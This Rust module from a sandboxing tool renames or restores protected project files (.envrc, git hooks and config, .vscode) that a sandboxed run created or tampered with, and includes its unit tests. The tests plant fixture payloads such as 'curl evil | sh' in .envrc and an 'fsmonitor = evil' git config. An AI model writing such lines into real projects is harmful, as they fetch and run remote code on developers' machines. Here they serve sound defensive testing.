//! After a run: protected entries the run created are renamed out of use.
//!
//! A mount can only cover what exists, so a protected name that was missing
//! when the run started (`.envrc`, a `.vscode/`, a new `sub/.git/`) could be
//! created by the payload. Once every process of the run is gone, nothing can
//! race this walk: each such entry, and each protected entry that is no longer
//! the object the scan saw (a symlink swapped for another), is renamed in
//! place to `NAME.sandbox-quarantine-RUN`. Nothing is deleted, and nothing the
//! host reads (git, direnv, editors, agents) looks at that name.

use std::collections::{BTreeSet, HashMap};
use std::ffi::OsStr;
use std::os::fd::{AsFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use nix::dir::Type;
use nix::fcntl::RenameFlags;
use nix::sys::stat::Mode;
use serde::Serialize;

use super::scan::{self, Identity, ListedDir, ScanError};
use super::Rules;

/// One entry moved aside.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct Quarantined {
    /// Where the run left it, below the project root.
    pub path: PathBuf,
    /// Where it is now, below the project root.
    pub moved_to: PathBuf,
}

/// What the sweep did.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Sweep {
    /// Entries renamed.
    pub quarantined: Vec<Quarantined>,
    /// Entries that should have been renamed and could not be, with why.
    pub failed: Vec<(PathBuf, String)>,
    /// Protected entries put back as they were before the run (runs
    /// without namespaces, where they could not be read-only during it).
    pub restored: Vec<PathBuf>,
    /// Directories listed, and directories the scan's listing was kept for
    /// because the kernel shows them unchanged since.
    #[serde(skip)]
    pub dirs: SweptDirs,
}

/// How the sweep went through the project's directories.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SweptDirs {
    /// Listed again.
    pub listed: u64,
    /// Taken as the scan listed them.
    pub unchanged: u64,
}

struct Sweeper<'a> {
    rules: &'a Rules,
    before: &'a HashMap<PathBuf, Identity>,
    listed: &'a HashMap<PathBuf, ListedDir>,
    suffix: String,
    sweep: Sweep,
    components: Vec<Vec<u8>>,
    /// Whether subdirectories are swept; when not, only those named here
    /// (created since the walk) are, whole.
    descend: bool,
    created: Option<&'a BTreeSet<PathBuf>>,
}

const MAX_DEPTH: usize = 256;

fn relative(components: &[Vec<u8>]) -> PathBuf {
    components.iter().map(|c| OsStr::from_bytes(c)).collect()
}

impl Sweeper<'_> {
    fn walk(&mut self, dir: &OwnedFd) {
        let here = relative(&self.components);
        if self.components.len() >= MAX_DEPTH {
            self.sweep
                .failed
                .push((here, "nested too deep to sweep".into()));
            return;
        }
        // Unchanged since the scan listed it: every entry is the one the
        // scan saw, so none is new and none was swapped; only what is below
        // its subdirectories can be.
        let listed = self.listed.get(&here);
        if let Some(unchanged) = listed.and_then(|listed| {
            nix::sys::stat::fstat(dir.as_fd())
                .ok()
                .and_then(|now| listed.unchanged_subdirs(&now))
        }) {
            self.sweep.dirs.unchanged += 1;
            for name in unchanged {
                self.components.push(name.clone());
                self.descend(dir, name);
                self.components.pop();
            }
            return;
        }
        self.sweep.dirs.listed += 1;
        let names = match scan::list(dir, &here) {
            Ok(names) => names,
            Err(err) => {
                self.sweep.failed.push((here, err.to_string()));
                return;
            }
        };
        for (name, reported) in names {
            self.components.push(name);
            self.entry(dir, reported);
            self.components.pop();
        }
    }

    /// The entry last in `components`.
    fn entry(&mut self, dir: &OwnedFd, reported: Option<Type>) {
        let name = self.components.last().map(Vec::as_slice).unwrap_or(b"");
        let stat = match reported {
            Some(_) => None,
            None => match scan::stat_at(dir, name, Path::new("")) {
                Ok(s) => Some(s),
                Err(_) => return, // gone since listed: nothing to sweep
            },
        };
        let kind = reported.or(stat.as_ref().map(scan::kind_of));
        let is_dir = kind == Some(Type::Directory);
        if self
            .rules
            .secrets
            .matching(&self.components, is_dir)
            .is_some()
        {
            return; // masked during the run: what is below is not the run's
        }
        if self.rules.is_protected(&self.components, is_dir) {
            let name = name.to_vec();
            let path = relative(&self.components);
            let stat = match stat {
                Some(s) => s,
                None => match scan::stat_at(dir, &name, &path) {
                    Ok(s) => s,
                    Err(_) => return,
                },
            };
            let identity = Identity::of(&stat);
            if self.before.get(&path) == Some(&identity) {
                return; // the entry the run was shown, read-only throughout
            }
            self.quarantine(dir, &name, path);
            return;
        }
        if is_dir {
            let name = name.to_vec();
            if self.descend {
                self.descend(dir, &name);
            } else if self
                .created
                .is_some_and(|created| created.contains(&relative(&self.components)))
            {
                self.descend = true;
                self.descend(dir, &name);
                self.descend = false;
            }
        }
    }

    /// Whether the whole sweep would never list the directory at
    /// `components`: it is, or is below, a hidden or a protected directory.
    fn never_swept(&self, components: &[Vec<u8>]) -> bool {
        (1..=components.len()).any(|end| {
            let prefix = &components[..end];
            self.rules.secrets.matching(prefix, true).is_some()
                || self.rules.is_protected(prefix, true)
        })
    }

    /// Sweep the directory `name` in `dir` (last in `components`).
    fn descend(&mut self, dir: &OwnedFd, name: &[u8]) {
        match nix::fcntl::openat(
            dir.as_fd(),
            OsStr::from_bytes(name),
            scan_dir_flags(),
            Mode::empty(),
        ) {
            Ok(child) => self.walk(&child),
            Err(errno) => self
                .sweep
                .failed
                .push((relative(&self.components), errno.desc().into())),
        }
    }

    fn quarantine(&mut self, dir: &OwnedFd, name: &[u8], path: PathBuf) {
        move_aside(dir, name, path, &self.suffix, &mut self.sweep);
    }
}

/// Rename `name` in `dir` to `name` + `suffix` (+ `-N` when taken), never
/// replacing anything, and record it. False when it could not be moved.
fn move_aside(dir: &OwnedFd, name: &[u8], path: PathBuf, suffix: &str, sweep: &mut Sweep) -> bool {
    for attempt in 0..100u32 {
        let mut new_name = name.to_vec();
        new_name.extend_from_slice(suffix.as_bytes());
        if attempt > 0 {
            new_name.extend_from_slice(format!("-{attempt}").as_bytes());
        }
        match nix::fcntl::renameat2(
            dir.as_fd(),
            OsStr::from_bytes(name),
            dir.as_fd(),
            OsStr::from_bytes(&new_name),
            RenameFlags::RENAME_NOREPLACE,
        ) {
            Ok(()) => {
                let moved_to = path
                    .parent()
                    .unwrap_or(Path::new(""))
                    .join(OsStr::from_bytes(&new_name));
                sweep.quarantined.push(Quarantined { path, moved_to });
                return true;
            }
            Err(nix::errno::Errno::EEXIST) => continue,
            Err(errno) => {
                sweep.failed.push((path, errno.desc().into()));
                return false;
            }
        }
    }
    sweep
        .failed
        .push((path, "every quarantine name is taken".into()));
    false
}

fn scan_dir_flags() -> nix::fcntl::OFlag {
    use nix::fcntl::OFlag;
    OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC
}

/// Sweep the project at `root` after a run named `run` (used in the new
/// names). `before` is what the scan found protected, `listed` the
/// directories it listed ([`crate::project::scan::Scan::listed_dirs`]).
pub fn sweep(
    root: &Path,
    rules: &Rules,
    before: &HashMap<PathBuf, Identity>,
    listed: &HashMap<PathBuf, ListedDir>,
    run: &str,
) -> Result<Sweep, ScanError> {
    let dir = scan::open_root(root)?;
    let mut sweeper = Sweeper {
        rules,
        before,
        listed,
        suffix: format!(".sandbox-quarantine-{run}"),
        sweep: Sweep::default(),
        components: Vec::new(),
        descend: true,
        created: None,
    };
    sweeper.walk(&dir);
    Ok(sweeper.sweep)
}

/// Sweep only where the project's watcher says it changed since the walk
/// ([`super::watcher::changed_since`]): each directory named is listed and
/// its entries checked as [`sweep`] checks them, and each name created is
/// swept whole. Every process of the run is gone, and every name it made,
/// removed or renamed is an event of the watched directory that held it
/// (or, in a directory it created, below a name created), so nothing it
/// left is anywhere else.
pub fn sweep_changes(
    root: &Path,
    rules: &Rules,
    before: &HashMap<PathBuf, Identity>,
    changes: &scan::Changes,
    run: &str,
) -> Result<Sweep, ScanError> {
    let root_dir = scan::open_root(root)?;
    let listed = HashMap::new();
    let mut sweeper = Sweeper {
        rules,
        before,
        listed: &listed,
        suffix: format!(".sandbox-quarantine-{run}"),
        sweep: Sweep::default(),
        components: Vec::new(),
        descend: false,
        created: Some(&changes.created),
    };
    for path in &changes.dirs {
        let components: Vec<Vec<u8>> = path.iter().map(|c| c.as_bytes().to_vec()).collect();
        if sweeper.never_swept(&components) {
            continue;
        }
        // Gone, or an ancestor is no longer a directory: that is a change
        // of a directory above, listed too.
        let Ok(dir) = scan::open_below(&root_dir, path) else {
            continue;
        };
        sweeper.components = components;
        sweeper.walk(&dir);
    }
    Ok(sweeper.sweep)
}

/// Most bytes of protected files a run without namespaces keeps to restore
/// them: git hooks and config, editor settings and shell start-up files
/// are small, and a copy held in the supervisor's memory must stay bounded.
pub const SNAPSHOT_LIMIT: u64 = 16 << 20;
/// Most entries (files, links, directories) such a snapshot holds.
const SNAPSHOT_MAX_ENTRIES: usize = 10_000;

/// Why the protected entries cannot be kept for restoring.
#[derive(Debug, thiserror::Error)]
pub enum SnapshotError {
    /// More than [`SNAPSHOT_LIMIT`] bytes or too many entries.
    #[error("without user namespaces protected entries cannot be read-only during the run, only restored after it, and they are too large to keep a copy of (more than {} MiB or {SNAPSHOT_MAX_ENTRIES} entries, {path} among them). Fix: enable user namespaces (`sandbox doctor` names the setting here), or remove the large files from the protected entries (`[filesystem] protect_remove` in a profile)", SNAPSHOT_LIMIT >> 20)]
    TooLarge {
        /// An entry counted when the limit was passed.
        path: PathBuf,
    },
    /// An entry could not be read.
    #[error("keeping a copy of the protected entry {path} to restore after the run: {source}; make it readable to you, or move it out of the project")]
    Read {
        /// Below the project root.
        path: PathBuf,
        /// The errno.
        source: nix::errno::Errno,
    },
    /// A FIFO, socket or device under a protected name.
    #[error("the protected entry {path} is neither a file, a directory nor a symlink, so it cannot be restored after a run without namespaces; move it out of the project")]
    Unsupported {
        /// Below the project root.
        path: PathBuf,
    },
}

/// A protected entry as it was before the run.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Saved {
    File {
        mode: u32,
        content: Vec<u8>,
    },
    Link {
        target: Vec<u8>,
    },
    Dir {
        mode: u32,
        entries: std::collections::BTreeMap<Vec<u8>, Saved>,
    },
}

/// Copies of the protected entries of a project, taken before a run that
/// cannot make them read-only, to put them back after it.
#[derive(Debug, Clone, Default)]
pub struct Snapshot {
    entries: Vec<(PathBuf, Saved)>,
    bytes: u64,
    count: usize,
}

impl Snapshot {
    /// Bytes of file content held.
    pub fn bytes(&self) -> u64 {
        self.bytes
    }
    /// The protected entries held, below the project root.
    pub fn paths(&self) -> impl Iterator<Item = &Path> {
        self.entries.iter().map(|(p, _)| p.as_path())
    }
}

const SET_ID: u32 = libc::S_ISUID | libc::S_ISGID;

fn file_flags() -> nix::fcntl::OFlag {
    use nix::fcntl::OFlag;
    OFlag::O_RDONLY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC | OFlag::O_NONBLOCK
}

/// Open the directory holding `path` (below `root`), never following a
/// symlink. With `repair`, a missing component is created and one that is
/// not a directory (a symlink the run planted) is moved aside first.
fn open_parent(
    root: &OwnedFd,
    path: &Path,
    repair: Option<(&str, &mut Sweep)>,
) -> Result<OwnedFd, nix::errno::Errno> {
    use nix::errno::Errno;
    let mut dir = root.try_clone().map_err(|_| Errno::EBADF)?;
    let parent = path.parent().unwrap_or(Path::new(""));
    let mut so_far = PathBuf::new();
    let mut repair = repair;
    for component in parent.components() {
        let name = component.as_os_str();
        so_far.push(name);
        let opened = nix::fcntl::openat(dir.as_fd(), name, scan_dir_flags(), Mode::empty());
        let next = match (opened, repair.as_mut()) {
            (Ok(fd), _) => fd,
            (Err(errno), None) => return Err(errno),
            (Err(errno), Some((suffix, sweep))) => {
                if errno != Errno::ENOENT
                    && !move_aside(&dir, name.as_bytes(), so_far.clone(), suffix, sweep)
                {
                    return Err(errno);
                }
                nix::sys::stat::mkdirat(dir.as_fd(), name, Mode::from_bits_truncate(0o755))?;
                nix::fcntl::openat(dir.as_fd(), name, scan_dir_flags(), Mode::empty())?
            }
        };
        dir = next;
    }
    Ok(dir)
}

fn read_at(
    dir: &OwnedFd,
    name: &[u8],
    path: &Path,
    budget: &mut (u64, usize),
) -> Result<Saved, SnapshotError> {
    use nix::sys::stat::{fstatat, SFlag};
    let read = |source| SnapshotError::Read {
        path: path.to_path_buf(),
        source,
    };
    budget.1 += 1;
    if budget.1 > SNAPSHOT_MAX_ENTRIES {
        return Err(SnapshotError::TooLarge {
            path: path.to_path_buf(),
        });
    }
    let stat = fstatat(
        dir.as_fd(),
        OsStr::from_bytes(name),
        nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW,
    )
    .map_err(read)?;
    let mode = stat.st_mode & 0o7777;
    match SFlag::from_bits_truncate(stat.st_mode & SFlag::S_IFMT.bits()) {
        SFlag::S_IFREG => {
            let size = u64::try_from(stat.st_size).unwrap_or(u64::MAX);
            budget.0 = budget.0.saturating_add(size);
            if budget.0 > SNAPSHOT_LIMIT {
                return Err(SnapshotError::TooLarge {
                    path: path.to_path_buf(),
                });
            }
            let fd = nix::fcntl::openat(
                dir.as_fd(),
                OsStr::from_bytes(name),
                file_flags(),
                Mode::empty(),
            )
            .map_err(read)?;
            let content = read_bounded(&fd, size).map_err(read)?;
            Ok(Saved::File { mode, content })
        }
        SFlag::S_IFLNK => {
            let target =
                nix::fcntl::readlinkat(dir.as_fd(), OsStr::from_bytes(name)).map_err(read)?;
            Ok(Saved::Link {
                target: target.as_bytes().to_vec(),
            })
        }
        SFlag::S_IFDIR => {
            let child = nix::fcntl::openat(
                dir.as_fd(),
                OsStr::from_bytes(name),
                scan_dir_flags(),
                Mode::empty(),
            )
            .map_err(read)?;
            let mut entries = std::collections::BTreeMap::new();
            let names = scan::list(&child, path).map_err(|err| match err {
                ScanError::Read { source, .. } => read(source),
                _ => read(nix::errno::Errno::EIO),
            })?;
            for (name, _) in names {
                let below = path.join(OsStr::from_bytes(&name));
                let saved = read_at(&child, &name, &below, budget)?;
                entries.insert(name, saved);
            }
            Ok(Saved::Dir { mode, entries })
        }
        _ => Err(SnapshotError::Unsupported {
            path: path.to_path_buf(),
        }),
    }
}

/// Read a file of `expected` bytes; one byte more is read to notice growth,
/// and never more than that.
fn read_bounded(fd: &OwnedFd, expected: u64) -> Result<Vec<u8>, nix::errno::Errno> {
    let limit = usize::try_from(expected.saturating_add(1)).unwrap_or(usize::MAX);
    let mut content = Vec::with_capacity(limit.min(1 << 20));
    let mut buf = [0u8; 16 * 1024];
    while content.len() < limit {
        let want = buf.len().min(limit - content.len());
        match nix::unistd::read(fd.as_fd(), &mut buf[..want]) {
            Ok(0) => break,
            Ok(n) => content.extend_from_slice(&buf[..n]),
            Err(nix::errno::Errno::EINTR) => continue,
            Err(errno) => return Err(errno),
        }
    }
    Ok(content)
}

/// Keep a copy of each protected entry in `paths` (below `root`): regular
/// files' content and mode, symlinks' targets, directories with all they
/// hold. Entries below another one in the list are covered by it.
pub fn snapshot(root: &Path, paths: &[PathBuf]) -> Result<Snapshot, SnapshotError> {
    let root_fd = scan::open_root(root).map_err(|err| match err {
        ScanError::Read { source, .. } => SnapshotError::Read {
            path: PathBuf::new(),
            source,
        },
        _ => SnapshotError::Read {
            path: PathBuf::new(),
            source: nix::errno::Errno::EIO,
        },
    })?;
    let mut sorted: Vec<&PathBuf> = paths.iter().collect();
    sorted.sort_by_key(|p| p.components().count());
    let mut snapshot = Snapshot::default();
    let mut budget = (0u64, 0usize);
    for path in sorted {
        if snapshot.entries.iter().any(|(p, _)| path.starts_with(p)) {
            continue;
        }
        let Some(name) = path.file_name() else {
            continue;
        };
        let dir = open_parent(&root_fd, path, None).map_err(|source| SnapshotError::Read {
            path: path.clone(),
            source,
        })?;
        let saved = read_at(&dir, name.as_bytes(), path, &mut budget)?;
        snapshot.entries.push((path.clone(), saved));
    }
    snapshot.bytes = budget.0;
    snapshot.count = budget.1;
    Ok(snapshot)
}

/// Whether `name` in `dir` is exactly `saved`.
fn unchanged(dir: &OwnedFd, name: &[u8], saved: &Saved) -> bool {
    use nix::sys::stat::{fstatat, SFlag};
    let Ok(stat) = fstatat(
        dir.as_fd(),
        OsStr::from_bytes(name),
        nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW,
    ) else {
        return false;
    };
    let kind = SFlag::from_bits_truncate(stat.st_mode & SFlag::S_IFMT.bits());
    let mode = stat.st_mode & 0o7777;
    match saved {
        Saved::File {
            mode: saved_mode,
            content,
        } => {
            if kind != SFlag::S_IFREG
                || mode != *saved_mode
                || u64::try_from(stat.st_size).ok() != u64::try_from(content.len()).ok()
            {
                return false;
            }
            let Ok(fd) = nix::fcntl::openat(
                dir.as_fd(),
                OsStr::from_bytes(name),
                file_flags(),
                Mode::empty(),
            ) else {
                return false;
            };
            read_bounded(&fd, content.len() as u64).is_ok_and(|now| now == *content)
        }
        Saved::Link { target } => {
            kind == SFlag::S_IFLNK
                && nix::fcntl::readlinkat(dir.as_fd(), OsStr::from_bytes(name))
                    .is_ok_and(|now| now.as_bytes() == target.as_slice())
        }
        Saved::Dir {
            mode: saved_mode,
            entries,
        } => {
            if kind != SFlag::S_IFDIR || mode != *saved_mode {
                return false;
            }
            let Ok(child) = nix::fcntl::openat(
                dir.as_fd(),
                OsStr::from_bytes(name),
                scan_dir_flags(),
                Mode::empty(),
            ) else {
                return false;
            };
            let Ok(names) = scan::list(&child, Path::new("")) else {
                return false;
            };
            names.len() == entries.len()
                && names.iter().all(|(name, _)| {
                    entries
                        .get(name)
                        .is_some_and(|saved| unchanged(&child, name, saved))
                })
        }
    }
}

/// Create `name` in `dir` as `saved` (nothing may exist there).
fn recreate(dir: &OwnedFd, name: &[u8], saved: &Saved) -> Result<(), nix::errno::Errno> {
    use nix::fcntl::OFlag;
    let name_os = OsStr::from_bytes(name);
    match saved {
        Saved::File { mode, content } => {
            let fd = nix::fcntl::openat(
                dir.as_fd(),
                name_os,
                OFlag::O_WRONLY
                    | OFlag::O_CREAT
                    | OFlag::O_EXCL
                    | OFlag::O_NOFOLLOW
                    | OFlag::O_CLOEXEC,
                Mode::from_bits_truncate(0o600),
            )?;
            let mut written = 0;
            while written < content.len() {
                match nix::unistd::write(&fd, &content[written..]) {
                    Ok(n) => written += n,
                    Err(nix::errno::Errno::EINTR) => continue,
                    Err(errno) => return Err(errno),
                }
            }
            nix::sys::stat::fchmod(fd.as_fd(), Mode::from_bits_truncate(mode & !SET_ID))
        }
        Saved::Link { target } => {
            nix::unistd::symlinkat(OsStr::from_bytes(target), dir.as_fd(), name_os)
        }
        Saved::Dir { mode, entries } => {
            nix::sys::stat::mkdirat(dir.as_fd(), name_os, Mode::from_bits_truncate(0o700))?;
            let child = nix::fcntl::openat(dir.as_fd(), name_os, scan_dir_flags(), Mode::empty())?;
            for (name, saved) in entries {
                recreate(&child, name, saved)?;
            }
            nix::sys::stat::fchmod(child.as_fd(), Mode::from_bits_truncate(mode & !SET_ID))
        }
    }
}

/// After a run without namespaces, once every process of it is gone: each
/// protected entry that is not exactly as `snapshot` kept it is moved aside
/// to `NAME.sandbox-quarantine-RUN` and put back as it was. A directory
/// above one that the run replaced (by a symlink, say) is moved aside too,
/// so nothing is ever written through a path the run controlled.
pub fn restore(root: &Path, snapshot: &Snapshot, run: &str, sweep: &mut Sweep) {
    let suffix = format!(".sandbox-quarantine-{run}");
    let root_fd = match scan::open_root(root) {
        Ok(fd) => fd,
        Err(err) => {
            for (path, _) in &snapshot.entries {
                sweep.failed.push((path.clone(), err.to_string()));
            }
            return;
        }
    };
    for (path, saved) in &snapshot.entries {
        let Some(name) = path.file_name().map(OsStr::as_bytes) else {
            continue;
        };
        let dir = match open_parent(&root_fd, path, Some((&suffix, sweep))) {
            Ok(dir) => dir,
            Err(errno) => {
                sweep.failed.push((path.clone(), errno.desc().into()));
                continue;
            }
        };
        if unchanged(&dir, name, saved) {
            continue;
        }
        let present = nix::sys::stat::fstatat(
            dir.as_fd(),
            OsStr::from_bytes(name),
            nix::fcntl::AtFlags::AT_SYMLINK_NOFOLLOW,
        )
        .is_ok();
        if present && !move_aside(&dir, name, path.clone(), &suffix, sweep) {
            continue;
        }
        match recreate(&dir, name, saved) {
            Ok(()) => sweep.restored.push(path.clone()),
            Err(errno) => sweep.failed.push((path.clone(), errno.desc().into())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::project::scan::scan;
    use crate::project::{HardlinkPolicy, PatternList};

    /// The sweep after a run a watcher answered for visits only the
    /// directories the watches reported and the trees created since, and
    /// still moves aside every protected name the run made: in directories
    /// that existed, and deep in a tree made faster than any watch on it.
    #[test]
    fn sweeping_only_where_the_watches_saw_changes_moves_what_the_run_made() {
        let rules = Rules {
            secrets: PatternList::parse(&[".env"]).unwrap(),
            protect: PatternList::parse(&[".git/**/hooks", ".git/**/config", ".envrc", ".vscode/"])
                .unwrap(),
        };
        let project = tempfile::tempdir().unwrap();
        let p = project.path();
        for dir in [".git/hooks", "a/b/c", "x/y", "quiet/z"] {
            std::fs::create_dir_all(p.join(dir)).unwrap();
        }
        std::fs::write(p.join(".git/config"), "[core]").unwrap();
        let before = scan(p, &rules, true, HardlinkPolicy::ReadOnly).unwrap();
        let mut watch = crate::project::watch::TreeWatch::new(p, 10_000).unwrap();

        std::fs::write(p.join(".envrc"), "evil").unwrap();
        std::fs::write(p.join("a/b/c/.envrc"), "evil").unwrap();
        std::fs::create_dir_all(p.join("x/y/.vscode")).unwrap();
        std::fs::create_dir_all(p.join("new/deep/sub/.git/hooks")).unwrap();
        std::fs::write(p.join("new/deep/sub/.git/hooks/post-checkout"), "evil").unwrap();
        std::fs::write(p.join("new/deep/sub/.git/config"), "evil").unwrap();
        let drained = watch.drain().unwrap();
        assert!(!drained.rebuilt);
        assert!(
            !drained.changes.dirs.iter().any(|d| d.starts_with("quiet")),
            "{:?}",
            drained.changes
        );

        let sweep =
            sweep_changes(p, &rules, &before.protected_before, &drained.changes, "r2").unwrap();
        let mut moved: Vec<String> = sweep
            .quarantined
            .iter()
            .map(|q| q.path.display().to_string())
            .collect();
        moved.sort();
        assert_eq!(
            moved,
            [
                ".envrc",
                "a/b/c/.envrc",
                "new/deep/sub/.git/config",
                "new/deep/sub/.git/hooks",
                "x/y/.vscode"
            ]
        );
        assert!(sweep.failed.is_empty(), "{:?}", sweep.failed);
        assert!(p.join(".git/hooks").is_dir() && p.join(".git/config").is_file());
    }

    #[test]
    fn new_protected_entries_are_renamed_and_old_ones_kept() {
        let rules = Rules {
            secrets: PatternList::parse(&[".env"]).unwrap(),
            protect: PatternList::parse(&[".git/**/hooks", ".git/**/config", ".envrc", ".vscode/"])
                .unwrap(),
        };
        let project = tempfile::tempdir().unwrap();
        let p = project.path();
        std::fs::create_dir_all(p.join(".git/hooks")).unwrap();
        std::fs::write(p.join(".git/config"), "[core]").unwrap();
        let before = scan(p, &rules, true, HardlinkPolicy::ReadOnly).unwrap();

        // What a run could have done where no mount covered it.
        std::fs::write(p.join(".envrc"), "curl evil | sh").unwrap();
        std::fs::create_dir_all(p.join("deep/sub/.git/hooks")).unwrap();
        std::fs::write(p.join("deep/sub/.git/hooks/post-checkout"), "evil").unwrap();
        std::fs::write(p.join("deep/sub/.git/config"), "[core] fsmonitor = evil").unwrap();
        std::fs::write(p.join("deep/.git"), "gitdir: ../evil").unwrap();
        std::fs::write(p.join(".env"), "not swept: a secret, not protected").unwrap();

        let sweep = sweep(
            p,
            &rules,
            &before.protected_before,
            &before.listed_dirs,
            "r1",
        )
        .unwrap();
        let mut moved: Vec<String> = sweep
            .quarantined
            .iter()
            .map(|q| q.path.display().to_string())
            .collect();
        moved.sort();
        assert_eq!(
            moved,
            [
                ".envrc",
                "deep/.git",
                "deep/sub/.git/config",
                "deep/sub/.git/hooks"
            ]
        );
        assert!(sweep.failed.is_empty(), "{:?}", sweep.failed);
        assert!(!p.join(".envrc").exists());
        assert_eq!(
            std::fs::read_to_string(p.join(".envrc.sandbox-quarantine-r1")).unwrap(),
            "curl evil | sh"
        );
        assert!(p.join(".git/hooks").is_dir() && p.join(".git/config").is_file());
        assert!(p.join(".env").exists());
    }

    /// Waits until every entry's ctime below `root` is old enough for a
    /// scan to record its directory (the clock passes it by two seconds):
    /// a condition on the clock, not a guess of how long that takes.
    fn until_directories_are_old_enough(root: &Path) {
        use std::os::unix::fs::MetadataExt;
        fn newest(path: &Path) -> i64 {
            let meta = std::fs::symlink_metadata(path).unwrap();
            let mut ctime = meta.ctime();
            if meta.is_dir() {
                for entry in std::fs::read_dir(path).unwrap() {
                    ctime = ctime.max(newest(&entry.unwrap().path()));
                }
            }
            ctime
        }
        let newest = newest(root);
        while std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs() as i64
            <= newest + 2
        {
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
    }

    /// The sweep keeps the scan's listing of a directory only while the
    /// kernel shows it unchanged: entries a run adds deep in the tree, in
    /// directories the scan recorded, are still found and moved aside, and
    /// a protected entry swapped for another object is too.
    #[test]
    fn entries_added_deep_in_recorded_directories_are_still_swept() {
        let rules = Rules {
            secrets: PatternList::parse(&[".env", ".ssh/"]).unwrap(),
            protect: PatternList::parse(&[".git/**/hooks", ".envrc", ".vscode/"]).unwrap(),
        };
        let project = tempfile::tempdir().unwrap();
        let p = project.path();
        for dir in ["a/b/c/d/e", "a/b/x", "f/g", "h", ".git/hooks", "k/.ssh"] {
            std::fs::create_dir_all(p.join(dir)).unwrap();
        }
        std::fs::write(p.join("a/b/c/d/e/file.js"), "x").unwrap();
        std::fs::write(p.join("h/.envrc"), "the one the run is shown").unwrap();
        until_directories_are_old_enough(p);
        let before = scan(p, &rules, true, HardlinkPolicy::ReadOnly).unwrap();
        // Root, a, a/b, a/b/c, a/b/c/d, a/b/c/d/e, a/b/x, f, f/g, h, .git;
        // not what is protected or secret (.git/hooks, k/.ssh).
        let mut recorded: Vec<String> = before
            .listed_dirs
            .keys()
            .map(|p| p.display().to_string())
            .collect();
        recorded.sort();
        assert_eq!(
            recorded,
            [
                "",
                ".git",
                "a",
                "a/b",
                "a/b/c",
                "a/b/c/d",
                "a/b/c/d/e",
                "a/b/x",
                "f",
                "f/g",
                "h",
                "k"
            ]
        );

        // What a run could do after the scan, deep down and in place, then
        // put the directory's times back as they were (the payload owns
        // it): utimensat sets mtime and atime, and ctime to now.
        let e = p.join("a/b/c/d/e");
        let old = std::fs::metadata(&e).unwrap();
        std::fs::write(e.join(".envrc"), "curl evil | sh").unwrap();
        std::fs::File::open(&e)
            .unwrap()
            .set_times(
                std::fs::FileTimes::new()
                    .set_modified(old.modified().unwrap())
                    .set_accessed(old.accessed().unwrap()),
            )
            .unwrap();
        assert_eq!(
            std::fs::metadata(&e).unwrap().modified().unwrap(),
            old.modified().unwrap()
        );
        std::fs::create_dir(p.join("f/g/.vscode")).unwrap();
        // Written beside it and renamed over it: another inode.
        std::fs::write(p.join("h/new"), "not the file the run was shown").unwrap();
        std::fs::rename(p.join("h/new"), p.join("h/.envrc")).unwrap();

        let sweep = sweep(
            p,
            &rules,
            &before.protected_before,
            &before.listed_dirs,
            "r2",
        )
        .unwrap();
        let mut moved: Vec<String> = sweep
            .quarantined
            .iter()
            .map(|q| q.path.display().to_string())
            .collect();
        moved.sort();
        assert_eq!(moved, ["a/b/c/d/e/.envrc", "f/g/.vscode", "h/.envrc"]);
        assert!(sweep.failed.is_empty(), "{:?}", sweep.failed);
        // Listed again: the three directories changed; the others were
        // taken as the scan listed them.
        assert_eq!(
            sweep.dirs,
            SweptDirs {
                listed: 3,
                unchanged: 9
            }
        );

        // A second sweep finds nothing more, and still lists the three
        // directories (the renames changed them again) and the directory
        // moved aside, which the scan never saw.
        let again = super::sweep(
            p,
            &rules,
            &before.protected_before,
            &before.listed_dirs,
            "r3",
        )
        .unwrap();
        assert!(again.quarantined.is_empty(), "{:?}", again.quarantined);
        assert_eq!(again.dirs.listed, 4);
    }

    /// A directory whose ctime a remote server keeps, or which changed in
    /// the last two seconds before the scan, is never recorded: the sweep
    /// lists it again.
    #[test]
    fn directories_changed_just_before_the_scan_are_not_recorded() {
        let rules = Rules {
            secrets: PatternList::default(),
            protect: PatternList::parse(&[".envrc"]).unwrap(),
        };
        let project = tempfile::tempdir().unwrap();
        let p = project.path();
        std::fs::create_dir_all(p.join("a/b")).unwrap();
        until_directories_are_old_enough(p);
        std::fs::write(p.join("a/b/new.js"), "x").unwrap();
        let before = scan(p, &rules, true, HardlinkPolicy::ReadOnly).unwrap();
        assert!(before.listed_dirs.contains_key(Path::new("a")));
        assert!(!before.listed_dirs.contains_key(Path::new("a/b")));
    }
}
